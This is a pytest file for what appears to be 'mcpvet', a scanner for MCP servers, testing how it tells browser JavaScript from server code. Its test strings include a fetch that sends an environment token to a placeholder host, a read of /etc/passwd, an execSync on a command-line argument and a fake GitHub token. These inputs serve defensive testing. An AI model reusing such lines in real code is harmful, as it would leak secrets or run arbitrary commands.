"""JavaScript a web page loads is not analysed as server code (mcpvet.discover.browser), and says so."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mcpvet import api
from mcpvet.discover import discover
from mcpvet.discover.browser import is_browser_code
from mcpvet.fetch.interface import Fetched
from mcpvet.model import Ecosystem, FileRole, Language, Target
from mcpvet.options import InspectOptions
from mcpvet.render import Format, render

PAGE = "document.getElementById('save').addEventListener('click', () => fetch('/api/settings'));\n"


@pytest.mark.parametrize("text", [
    PAGE,
    "(function(){ window.requestAnimationFrame(draw); })();\n",
    # a UMD wrapper (jQuery, d3): module.exports is not a Node.js API
    "!function(e,t){'object'==typeof module&&'object'==typeof module.exports?module.exports=t(e):t(e)}"
    "(this,function(w){return w.document.createElement('div')});\n",
    # a bundle's guarded `process.emit` (React's error reporting) is not a use of the machine
    "if(!window.dispatchEvent(t))return;else if(typeof process=='object'&&typeof process.emit=='function'){}\n",
])
def test_page_code_without_node_apis_is_browser_code(text: str) -> None:
    assert is_browser_code(text.encode())


@pytest.mark.parametrize("text", [
    "const x = 1;\n",  # no page at all
    PAGE + "const fs = require('fs');\n",
    PAGE + "const cp = require(\"node:child_process\");\n",
    PAGE + "import { readFile } from 'fs/promises';\n",
    PAGE + "import os from \"node:os\";\n",
    PAGE + "const m = await import('child_process');\n",
    PAGE + "fetch('https://x.example/?k=' + process.env.TOKEN);\n",
    PAGE + "const args = process.argv.slice(2);\n",
    PAGE + "const here = __dirname;\n",
    PAGE + "Deno.readTextFile('/etc/passwd');\n",
    PAGE + "await Bun.write('out.txt', 'x');\n",
])
def test_node_apis_or_no_page_keep_it_server_code(text: str) -> None:
    assert not is_browser_code(text.encode())


def _python_server_with_pages(root: Path) -> Path:
    (root / "srv" / "ui" / "assets").mkdir(parents=True)
    (root / "pyproject.toml").write_text('[project]\nname = "srv-mcp"\nversion = "1.0"\n')
    (root / "srv" / "server.py").write_text(
        "from mcp.server.fastmcp import FastMCP\nmcp = FastMCP('s')\n\n@mcp.tool()\n"
        "def add(a: int, b: int) -> int:\n    \"\"\"Add two numbers.\"\"\"\n    return a + b\n")
    (root / "srv" / "ui" / "index.html").write_text('<script src="assets/app.js"></script>\n')
    (root / "srv" / "ui" / "assets" / "app.js").write_text(PAGE)
    # a Node.js helper the Python code could start: not browser code
    (root / "srv" / "helper.js").write_text(PAGE + "require('child_process').execSync(process.argv[2]);\n")
    return root


def test_discover_marks_page_code_and_names_it(tmp_path: Path) -> None:
    tree, errors = discover(_python_server_with_pages(tmp_path / "p"), name_hint="p")
    roles = {f.path: f.role for f in tree.files}
    assert roles["srv/ui/assets/app.js"] is FileRole.BROWSER
    assert roles["srv/helper.js"] is FileRole.SOURCE
    assert roles["srv/server.py"] is FileRole.SOURCE
    assert tree.languages == (Language.PYTHON, Language.JAVASCRIPT)  # helper.js is still server code
    [entry] = [e for e in errors if "web page" in e.message]
    assert entry.stage == "discover" and "srv/ui/assets/app.js" in entry.message
    assert "srv/helper.js" not in entry.message


def test_only_page_code_means_no_javascript_analysis(tmp_path: Path) -> None:
    root = _python_server_with_pages(tmp_path / "p")
    (root / "srv" / "helper.js").unlink()
    tree, _ = discover(root, name_hint="p")
    assert tree.languages == (Language.PYTHON,)


def test_a_package_json_makes_it_node_code(tmp_path: Path) -> None:
    root = tmp_path / "n"
    (root / "public").mkdir(parents=True)
    (root / "package.json").write_text('{"name": "n", "version": "1.0.0"}')
    (root / "public" / "app.js").write_text(PAGE)
    tree, errors = discover(root, name_hint="n")
    assert {f.path: f.role for f in tree.files}["public/app.js"] is FileRole.SOURCE
    assert not [e for e in errors if "web page" in e.message]


def test_a_package_json_above_the_file_governs_it(tmp_path: Path) -> None:
    root = tmp_path / "w"
    (root / "worker" / "src").mkdir(parents=True)
    (root / "worker" / "package.json").write_text('{"name": "w"}')
    (root / "worker" / "src" / "index.js").write_text(PAGE)
    (root / "web").mkdir()
    (root / "web" / "page.js").write_text(PAGE)
    tree, _ = discover(root, name_hint="w")
    roles = {f.path: f.role for f in tree.files}
    assert roles["worker/src/index.js"] is FileRole.SOURCE
    assert roles["web/page.js"] is FileRole.BROWSER


def test_the_scorecard_says_what_was_not_analysed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = _python_server_with_pages(tmp_path / "p")
    (root / "srv" / "helper.js").unlink()
    # a page that leaks a secret is still read by the file scans
    (root / "srv" / "ui" / "assets" / "app.js").write_text(
        PAGE + "const key = 'ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8';\n")

    def fake_fetch(spec: str, options: InspectOptions, scratch: Path) -> Fetched:
        return Fetched(Target(spec, Ecosystem.LOCAL, "p"), directory=Path(spec))

    import mcpvet.fetch
    monkeypatch.setattr(mcpvet.fetch, "fetch_target", fake_fetch, raising=False)
    card = json.loads(render(api.inspect(str(root), InspectOptions(offline=True)), Format.JSON))
    assert [t["name"] for t in card["tools"]] == ["add"]
    assert any(e["stage"] == "discover" and "srv/ui/assets/app.js" in e["message"] and "not analysed" in e["message"]
               for e in card["errors"])
    assert "javascript" not in card["target"].get("languages", [])
    assert any(f["rule"] == "leaked-secret" and f["location"]["path"] == "srv/ui/assets/app.js"
               for f in card["findings"]), [f["rule"] for f in card["findings"]]
